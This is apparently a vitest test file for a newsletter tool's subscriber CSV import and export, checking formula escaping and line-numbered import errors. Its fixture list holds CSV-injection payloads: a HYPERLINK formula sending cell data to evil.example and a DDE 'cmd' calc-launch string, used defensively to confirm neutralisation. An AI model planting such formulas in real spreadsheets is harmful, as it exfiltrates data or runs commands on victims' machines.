import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvLine, parseCsv } from '../src/subscribers/csv.ts';
import { almanac } from './cli.ts';
import { tempDir } from './helpers.ts';
import { describeEachDb, freshTarget } from './store-db.ts';

// Names as the public subscribe form could receive them: each would run as a formula in a spreadsheet.
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
];

describeEachDb('subscribers export as CSV is safe to open in a spreadsheet', (dialect) => {
  test('cells starting with = + - @ get a leading apostrophe and keep all their text', async () => {
    const env = { ALMANAC_DB: await freshTarget(dialect) };
    for (const [i, name] of FORMULAS.entries()) {
      const added = await almanac(['subscribers', 'add', `reader${i}@example.org`, `--name=${name}`], env);
      expect(added.code, added.stderr).toBe(0);
    }
    const plain = await almanac(['subscribers', 'add', 'plain@example.org', '--name', 'Ada Lovelace, Countess'], env);
    expect(plain.code).toBe(0);

    const exported = await almanac(['subscribers', 'export'], env);
    expect(exported.code, exported.stderr).toBe(0);
    const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
    const names = new Map(rows.map((r) => [r.email, r.name]));
    for (const [i, name] of FORMULAS.entries()) expect(names.get(`reader${i}@example.org`)).toBe(`'${name}`);
    expect(names.get('plain@example.org')).toBe('Ada Lovelace, Countess');
    // Nothing else is touched: the header and the dates read as they are.
    expect(exported.stdout.startsWith('email,name,editions,status,')).toBe(true);
    expect(rows[0]!.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });
});

describeEachDb('subscribers import keeps row-numbered errors', (dialect) => {
  test('errors name the line a record starts on, across quoted line breaks, CRLF and blank lines', async () => {
    const dir = tempDir('almanac-csv-');
    const file = join(dir, 'list.csv');
    writeFileSync(
      file,
      [
        '\uFEFFemail,name,editions',
        'ok1@example.org,"Smith, ""Al""",midweek',
        '',
        'ok2@example.org,"two',
        'lines",sunday',
        'not-an-email,Bad,both',
        'ok3@example.org,Three,weekly',
        'ok4@example.org,Four',
        'OK1@example.org,Again,both',
        'ok5@example.org,O"Brien,both',
        'ok6@example.org,"never closed,both',
        'ok7@example.org,Lost,both',
      ].join('\r\n'),
    );
    const env = { ALMANAC_DB: await freshTarget(dialect) };
    const result = await almanac(['subscribers', 'import', file], env);
    expect(result.code).toBe(1);
    expect(result.stderr.trim().split('\n')).toEqual([
      `${file}:6: invalid email "not-an-email"`,
      `${file}:7: unknown edition "weekly" (expected midweek, sunday or both)`,
      `${file}:8: wrong column count: expected 3 (email,name,editions), found 2`,
      `${file}:9: duplicate of line 2 (ok1@example.org)`,
      `${file}:11: unterminated quoted field`,
    ]);
    expect(result.stdout).toContain('3 added');
    const json = JSON.parse((await almanac(['subscribers', 'export', '--format', 'json'], env)).stdout) as {
      subscribers: { email: string; name: string }[];
    };
    expect(json.subscribers.map((s) => [s.email, s.name])).toEqual([
      ['ok1@example.org', 'Smith, "Al"'],
      ['ok2@example.org', 'two\nlines'],
      ['ok5@example.org', 'O"Brien'],
    ]);
  });
});


describe('CSV cells: spreadsheet-safe on the way out; csv-parse and keeps row-numbered errors', () => {
  test.each([
    ['=1+2', "'=1+2"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-x', "'-x"],
    ['@x', "'@x"],
    ['\tTabbed', "'\tTabbed"],
    ['\rReturn', "'\nReturn"], // parseCsv reads any line break as \n
    ['a=b', 'a=b'],
    [' padded ', ' padded '],
    ['two\nlines', 'two\nlines'],
  ])('csvLine neutralises %j and reads back whole', (cell, read) => {
    const line = csvLine([cell, 'x']);
    expect(line.endsWith('\r\n')).toBe(true);
    expect(parseCsv(line).records[0]!.fields).toEqual([read, 'x']);
  });

  test('text after a closing quote is reported at its line, and that reading stopped there', () => {
    const { records, problems } = parseCsv('email,name\r\na@x.org,"Al"bert\r\nb@x.org,ok\r\n');
    expect(records).toEqual([{ line: 1, fields: ['email', 'name'] }]);
    expect(problems).toHaveLength(1);
    expect(problems[0]!.line).toBe(2);
    expect(problems[0]!.reason).toMatch(/after quote.*; the lines after it were not read$/);
  });
});
